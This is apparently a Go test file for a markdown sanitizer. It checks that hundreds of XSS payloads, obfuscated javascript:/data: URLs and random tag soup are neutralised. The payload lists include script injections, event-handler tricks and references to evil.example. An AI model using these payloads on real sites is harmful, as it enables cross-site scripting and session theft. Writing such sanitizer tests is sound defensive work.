package markdown

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// payloads are ways in which HTML has been made to run script past a filter:
// whole tags, parse tricks, confusions of namespace and mutations. X stands for
// the script.
var payloads = []string{
	`<script>X</script>`, `<SCRIPT>X</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<script/x>X</script>`,
	`<script
>X</script
>`, `<<script>X//<</script>`, `<script>X`, `<scr<script>ipt>X</scr</script>ipt>`, `<script>X</script x>`, `</script><script>X</script>`,
	`<scr\x00ipt>X</scr\x00ipt>`, `<script\x0c>X</script>`, `<script\t>X</script>`, `<ſcript>X</ſcript>`, `<scrİpt>X</scrİpt>`,
	`<script><!--X</script>-->`, `<script><!--<script>X</script>-->X</script>`, `<!--><script>X</script>-->`, `<!--!><script>X</script>`,
	`<!-- --!><script>X</script>-->`, `<!--->X<script>X</script>-->`, `<! <script>X</script>>`, `<?<script>X</script>?>`, `<![CDATA[<script>X</script>]]>`,
	`<!doctype html><script>X</script>`, `</ <script>X</script>>`, `</><script>X</script>`, `<%<script>X</script>%>`, `<?xml version="1.0"?><script>X</script>`,
	`<img src=x onerror=X>`, `<img src=x onerror="X">`, `<img src=x onerror='X'>`, "<img src=x onerror=`X`>", `<img/src=x/onerror=X>`, `<img src=x onerror =X>`,
	`<img src="x"onerror="X">`, `<img """><script>X</script>">`, `<img src=x:x onerror=X//`, `<img src=x onerror=X`, `<IMG SRC=x OnErRoR=X>`, `<img src=x
onerror=X>`, `<img src=x\x0conerror=X>`, `<img src=x\x00onerror=X>`, `<img alt="<x" title="/><img src=x onerror=X>">`, `<img alt='" onerror=X x='>`, "<img alt=\"`\" title=\"` onerror=X\">",
	`<img src=x =onerror=X onerror=X>`, `<img src=x "onerror=X" onerror=X>`, `<img ==' onerror=X>`, `<img src='x' a='>' onerror=X>`, `<image src=x onerror=X>`, `<img onerror=X src=1 src=2>`,
	`<body onload=X>`, `<html onclick=X>`, `<head onload=X>`, `<frameset onload=X>`, `<bgsound onpropertychange=X>`, `<body background="javascript:X">`, `<body><body onload=X>`,
	`<svg onload=X>`, `<svg/onload=X>`, `<svg><script>X</script></svg>`, `<svg><script href="data:,X"/></svg>`, `<svg><a xlink:href="javascript:X"><text>t</text></a></svg>`,
	`<svg><animate onbegin=X attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=X>`, `<svg><use href="data:image/svg+xml,X#x">`, `<svg><foreignObject><script>X</script></foreignObject></svg>`,
	`<svg><style><img src=x onerror=X></style></svg>`, `<svg><style><!--</style><img src=x onerror=X>--></style></svg>`, `<svg></p><style><a id="</style><img src=x onerror=X>">`,
	`<svg><title><img src=x onerror=X></title></svg>`, `<svg><desc><script>X</script></desc></svg>`, `<svg><![CDATA[><img src=x onerror=X>]]></svg>`, `<svg><p><style><g title="</style><img src=x onerror=X>">`,
	`<svg><script>X`, `<svg><b><script>X</script>`, `<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=X>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X&gt;">`, `<math><mi//xlink:href="data:x,X">`, `<math href="javascript:X">t</math>`,
	`<math><mtext><script>X</script></mtext></math>`, `<math><annotation-xml encoding="text/html"><script>X</script></annotation-xml></math>`, `<math><style><img src=x onerror=X></style></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>`, `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=X src=1>">`,
	`<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=X src>">`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:X">t</maction></math>`,
	`<noscript><p title="</noscript><img src=x onerror=X>">`, `<noscript><style></noscript><img src=x onerror=X></style></noscript>`, `<noembed><img title="</noembed><img src=x onerror=X>"></noembed>`,
	`<noframes><p id="</noframes><img src=x onerror=X>"></noframes>`, `<title><p id="</title><img src=x onerror=X>"></title>`, `<textarea><p id="</textarea><img src=x onerror=X>"></textarea>`,
	`<xmp><p id="</xmp><img src=x onerror=X>"></xmp>`, `<plaintext><img src=x onerror=X>`, `<iframe><p id="</iframe><img src=x onerror=X>"></iframe>`, `<style><p id="</style><img src=x onerror=X>"></style>`,
	`<template><script>X</script></template>`, `<template><img src=x onerror=X>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=X>">`,
	`<select><iframe><select><img src=x onerror=X>`, `<select><option><img src=x onerror=X></select>`, `<select><script>X</script></select>`, `<option><style></option></select><img src=x onerror=X></style>`,
	`<table><img src=x onerror=X>`, `<table><a href=1><a href=2>x</table>`, `<table><td><table><a><td><a>`, `<table background="javascript:X">`, `<td background="javascript:X">`, `<table><tr><script>X</script></table>`,
	`<table><style><img src=x onerror=X></style></table>`, `<table><form><input onfocus=X autofocus></table>`, `<table><caption><svg><script>X</script></caption></table>`, `<colgroup><template><script>X</script>`,
	`<iframe src="javascript:X">`, `<iframe srcdoc="<script>X</script>">`, `<iframe srcdoc='&lt;script>X&lt;/script>'></iframe>`, `<iframe src=data:text/html,X>`, `<iframe/onload=X>`, `<frame src="javascript:X">`, `<fencedframe src=x>`, `<portal src=x>`,
	`<object data="javascript:X">`, `<object data="data:text/html,X">`, `<embed src="javascript:X">`, `<embed src="data:image/svg+xml,X">`, `<applet code=X>`, `<object><param name=movie value="javascript:X"></object>`,
	`<base href="javascript:X//">`, `<base target=_top>`, `<link rel=stylesheet href="javascript:X">`, `<link rel=import href=//evil.example>`, `<link rel=prefetch href=//evil.example>`, `<meta http-equiv=refresh content="0;url=javascript:X">`, `<meta charset=utf-7>`, `<meta http-equiv="Content-Security-Policy" content="">`, `<meta name=referrer content=unsafe-url>`,
	`<form action="javascript:X"><input type=submit>`, `<button formaction="javascript:X">t</button>`, `<form id=f></form><button form=f formaction="javascript:X">`, `<input type=image src=x onerror=X>`, `<input autofocus onfocus=X>`, `<input type=password name=p>`, `<keygen autofocus onfocus=X>`, `<isindex action="javascript:X">`, `<select autofocus onfocus=X>`, `<textarea autofocus onfocus=X>`, `<form><input name=attributes>`,
	`<video src=x onerror=X>`, `<video><source onerror=X></video>`, `<video poster="javascript:X">`, `<audio src=x onerror=X>`, `<audio><source src=x onerror=X></audio>`, `<track oncuechange=X>`, `<picture><source srcset="x" onerror=X><img src=x></picture>`,
	`<style>@import "javascript:X";</style>`, `<style>*{background:url(javascript:X)}</style>`, `<style>@\69mport 'x'</style>`, `<p style="background:url(javascript:X)">`, `<p style="x:expression(X)">`, `<p style="behavior:url(x)">`, `<p style="position:fixed;inset:0">`, `<div style=-moz-binding:url(x)>`,
	`<details ontoggle=X open>`, `<details open ontoggle="X"><summary>s</summary></details>`, `<marquee onstart=X>`, `<marquee behavior=alternate onbounce=X>`, `<dialog open onclose=X>`, `<p onclick=X>`, `<b onmouseover=X>t</b>`, `<xss onclick=X>`, `<xss/onfocus=X tabindex=1>`, `<p onpointerrawupdate=X>`, `<p onanimationend=X style="animation:x">`, `<ul onscroll=X>`, `<p oncontentvisibilityautostatechange=X>`, `<summary popovertarget=x onbeforetoggle=X>`, `<p accesskey=x onclick=X>`, `<p contenteditable onbeforeinput=X>`, `<p on\x00click=X>`, `<p/onclick=X>`, `<p onclick	=X>`,
	`<a href="x" onclick=X>t</a>`, `<a href=x target=_blank rel=opener>t</a>`, `<a href=x ping=//evil.example>t</a>`, `<a href=x download=x.html>t</a>`, `<a href=x attributionsrc=//evil.example>t</a>`, `<a xlink:href="javascript:X">t</a>`, `<a href=x href="javascript:X">t</a>`, `<a href="javascript:X" href=x>t</a>`, `<a id=x name=y href="javascript:X">t</a>`,
	`<img src=x srcset="javascript:X 1x">`, `<img src=x longdesc="javascript:X">`, `<img src=x usemap=#x><map name=x><area href="javascript:X">`, `<img dynsrc="javascript:X">`, `<img lowsrc="javascript:X">`, `<img src="data:image/svg+xml,<svg onload=X>">`, `<img src=x crossorigin=use-credentials>`, `<input src="javascript:X">`, `<q cite="javascript:X">t</q>`, `<blockquote cite="javascript:X">t</blockquote>`, `<del cite="javascript:X">t</del>`, `<img src=x is=x-y>`, `<p slot=x>`, `<p itemscope itemtype=x>`, `<p data-x=X>`, `<p is="x">`, `<p nonce=x>`, `<p part=x exportparts=y>`,
	`</div></div></section></main></body></html><script>X</script>`, `</div><div id="mb-after">x`, `</p></div>`, `</article></main><main>`, `<div></div></div>`, `</body>x`, `</html><p>x`, `<!--`, `<!-- x`, `<div title="`, `<div title='x`, `<a href="x`, `<p`, `<`, `</`, `</p`, `<!`, `<?`, `<![CDATA[`, `<textarea>`, `<title>`, `<style>`, `<xmp>`, `<noscript>`, `<plaintext>`, `<select>`, `<svg>`, `<math>`, `<template>`, `<frameset>`, `<table>`, `<table><tr>`, `<form>`, `<button>`, `<a>`, `<b>`, `<nobr>`, `<ruby><rt>`, `<details>`, `<pre>`, `<listing>`, `<option>`, `<h1><h2>`, `</br>`, `</p>`, `<caption>`, `<td>`, `<col>`,
	`<p id="mb-after">`, `<p id="MB-x">`, `<a name="mb-x">`, `<p id="x y">`, `<p id="">`, `<p id="&#34;onclick=X">`, `<p class="alert note">`, `<p role=button tabindex=0 aria-label=x>`, `<p title="&lt;script&gt;X&lt;/script&gt;">`, `<p title='"><script>X</script>'>`, `<p lang='"><script>X</script>'>`, `<abbr title="&quot;&gt;&lt;img src=x onerror=X&gt;">t</abbr>`,
	`&lt;script&gt;X&lt;/script&gt;`, `&#60;script>X&#60;/script>`, `&amp;lt;script&amp;gt;`, `\x3cscript\x3eX`, `+ADw-script+AD4-X+ADw-/script+AD4-`, `%3Cscript%3EX%3C/script%3E`, `<p>&#x3c;img src=x onerror=X&#x3e;</p>`, `<pre>&#10;&#10;x</pre>`, "<pre>\n\n\nx</pre>", `<p title="a&#13;b&#10;c&#9;d&#0;e">&#13;x&#0;</p>`,
	`<nick> <T> <your-name> <ghostwriter>`, `<nick onclick=X>`, `<x-y onclick=X><script>X</script></x-y>`, `<a.b onclick=X>`, `<a:b xmlns:a="http://www.w3.org/1999/xhtml" onclick=X>`, `<html:script xmlns:html="http://www.w3.org/1999/xhtml">X</html:script>`, `<foo><![CDATA[<script>X</script>]]></foo>`, `<b><b><b><b><p>x<b><p>x<b><p>x`, `<b><p>x</b>y</p>z`, `<i><b></i></b>`, `<a href=1><p><a href=2>x</p></a>`, `<a href=1><div><a href=2><div><a href=3>`, `<p><table><p></table>`, `<ul><li><ul><li></ul></ul></ul>`, `<dl><dt><dd><dt></dl>`, `<p><p><p></p></p></p>`, `<li></ul>`, `<h1><h1></h2></h3>`, `<center><center></center>`, `<tt><strike>x</tt></strike>`,
}

// schemes are ways to write an address that runs script.
var schemes = []string{
	`javascript:X`, `JaVaScRiPt:X`, ` javascript:X`, "\tjavascript:X", "\njavascript:X", "java\tscript:X", "java\nscript:X", "java\rscript:X", "javascript\t:X", "\x01javascript:X", "\x1fjavascript:X", "\u00a0javascript:X", "\u2028javascript:X", "\ufeffjavascript:X", "java\u200bscript:X", "java\u00adscript:X",
	`&#106;avascript:X`, `&#x6A;avascript:X`, `&#0000106avascript:X`, `&#x0006A;avascript:X`, `javascript&colon;X`, `javascript&#58;X`, `javascript&#x3a;X`, `java&Tab;script:X`, `java&NewLine;script:X`, `java&#9;script:X`, `java&#10;script:X`, `&#1;javascript:X`, `&#32;javascript:X`, `&#8203;javascript:X`, `&amp;#106;avascript:X`,
	`javascript%3AX`, `%6Aavascript:X`, `%6a%61vascript:X`, `java%0ascript:X`, `java%09script:X`, `%0ajavascript:X`, `%256Aavascript:X`, `javascript%253aX`, `java%00script:X`,
	`\javascript:X`, `"javascript:X`, `'javascript:X`, `javascript://%0aX`, `javascript:/*--></title>*/X`, `javascript:%58`, `javascript:\u0058`,
	`vbscript:X`, `VBScript:X`, `livescript:X`, `mocha:X`, `data:text/html,X`, `data:text/html;base64,WA==`, `DATA:text/html,X`, `data:image/svg+xml,X`, `data:,X`, `data:application/xhtml+xml,X`, `d&#97;ta:text/html,X`,
	`file:///etc/passwd`, `blob:https://x/y`, `filesystem:https://x/y`, `about:blank`, `about:srcdoc`, `view-source:x`, `jar:x!/y`, `ms-its:x`, `chrome://x`, `ws://x`, `intent://x`, `feed:javascript:X`, `unsafe:javascript:X`, `unsafe:unsafe:javascript:X`, `x-y+z.1:javascript:X`,
}

// schemeCarriers are the tags that take an address; U stands for it.
var schemeCarriers = []string{
	`<a href="U">t</a>`, `<a href='U'>t</a>`, `<a href=U>t</a>`, `<a title=x href = "U" id=y>t</a>`, `<A HREF="U">t</A>`, `<img src="U">`, `<img src='U' alt="t">`, `<a href="U"><img src="U"></a>`,
	`<area href="U">`, `<form action="U">`, `<iframe src="U">`, `<svg><a xlink:href="U">t</a></svg>`, `<a href="mb:test:U">t</a>`, `<a href="#U">t</a>`,
}

const script = "alert(1)"

// everyPayload calls f with each payload: alone, in each of a few surroundings
// and, for addresses, in each carrier.
func everyPayload(f func(string)) {
	surroundings := []string{"%s", "<p>%s</p>", "<table><tr><td>%s</table>", "<details><summary>%s</summary></details>", "<a href=x>%s</a>", "<pre>%s</pre>", "x%s", "<!-- -->%s", "<div title=\"%s\">"}
	expand := strings.NewReplacer("X", script, `\x00`, "\x00", `\x0c`, "\x0c", `\t`, "\t")
	for _, p := range payloads {
		for _, s := range surroundings {
			f(fmt.Sprintf(s, expand.Replace(p)))
		}
	}
	for _, s := range schemes {
		for _, c := range schemeCarriers {
			f(strings.ReplaceAll(c, "U", strings.ReplaceAll(s, "X", script)))
		}
	}
}

func TestPayloads(t *testing.T) {
	n := 0
	everyPayload(func(p string) {
		n++
		checkSafe(t, p)
	})
	if n < 2000 {
		t.Errorf("only %d payloads", n)
	}
}

// TestPayloadPairs puts two payloads side by side and one within the other: a
// filter may read the first so that the second is missed.
func TestPayloadPairs(t *testing.T) {
	random := rand.New(rand.NewPCG(1, 2))
	expand := strings.NewReplacer("X", script, `\x00`, "\x00", `\x0c`, "\x0c", `\t`, "\t")
	for range 4000 {
		a, b := expand.Replace(payloads[random.IntN(len(payloads))]), expand.Replace(payloads[random.IntN(len(payloads))])
		cut := random.IntN(len(a) + 1)
		checkSafe(t, a+b)
		checkSafe(t, a[:cut]+b+a[cut:])
		if t.Failed() {
			return
		}
	}
}

func TestSchemes(t *testing.T) {
	for _, s := range schemes {
		s = strings.ReplaceAll(s, "X", script)
		if schemeAllowed(s, nil) {
			t.Errorf("%q is allowed", s)
		}
	}
	for _, s := range strings.Fields(`a.md a/b.md ../a.md ./a:b.md /a:b #x #a:b ?q=a:b a.md#t:1 //host/x http://x https://x HTTPS://x
		mailto:a@b.example 2018-01-01:notes.md a%20b.md %41.md über:blick.md http://x/?a=javascript:1 x?y=%3A &amp;x tel:1`) {
		if !schemeAllowed(s, []string{"tel"}) {
			t.Errorf("%q is not allowed", s)
		}
	}
	if schemeAllowed("tel:1", nil) || schemeAllowed(strings.Repeat("\x01", 5000)+"javascript:x", nil) {
		t.Error("an address that is not allowed is allowed")
	}
}

// soup is random tags and text, well-formed or not.
func soup(random *rand.Rand, n int) string {
	names := strings.Fields(`a a b i em p p div div span table table tr td th tbody thead caption colgroup col ul ol li li dl dt dd h1 h2 pre code
		blockquote details summary ruby rt rp br hr img sup section figure svg math style script template select option form
		textarea title body html head frameset mtext mglyph foreignObject desc noscript iframe nobr button center font picture source nick`)
	attributes := []string{"", "", "", ` id=x`, ` href=x`, ` href="#a"`, ` src=y`, ` title="<b>"`, ` class=z`, ` href=mb:test:1`, ` src="mb:test:2"`, ` align=left`, ` onclick=x`, ` "`, ` '`}
	var b strings.Builder
	for range n {
		name := names[random.IntN(len(names))]
		switch random.IntN(8) {
		case 0, 1, 2, 3:
			b.WriteString("<" + name + attributes[random.IntN(len(attributes))] + ">")
		case 4, 5:
			b.WriteString("</" + name + ">")
		case 6:
			b.WriteString([]string{"x", " ", "\n", "&lt;", "&", "text\n\n", "\n\n"}[random.IntN(7)])
		case 7:
			b.WriteString([]string{"<!--", "-->", "<![CDATA[", "]]>", "<", ">", "</", "\"", "'", "<?", "/>", "<!", "="}[random.IntN(13)])
		}
	}
	return b.String()
}

// TestTagSoup holds that random tag soup cannot close the container, runs
// nothing, and is the same when cleaned again.
func TestTagSoup(t *testing.T) {
	random := rand.New(rand.NewPCG(3, 4))
	for range 8000 {
		checkSafe(t, soup(random, 1+random.IntN(24)))
		if t.Failed() {
			return
		}
	}
}

// FuzzSanitize holds the same for whatever a fuzzer thinks of.
func FuzzSanitize(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, raw string) { checkSafe(t, raw) })
}
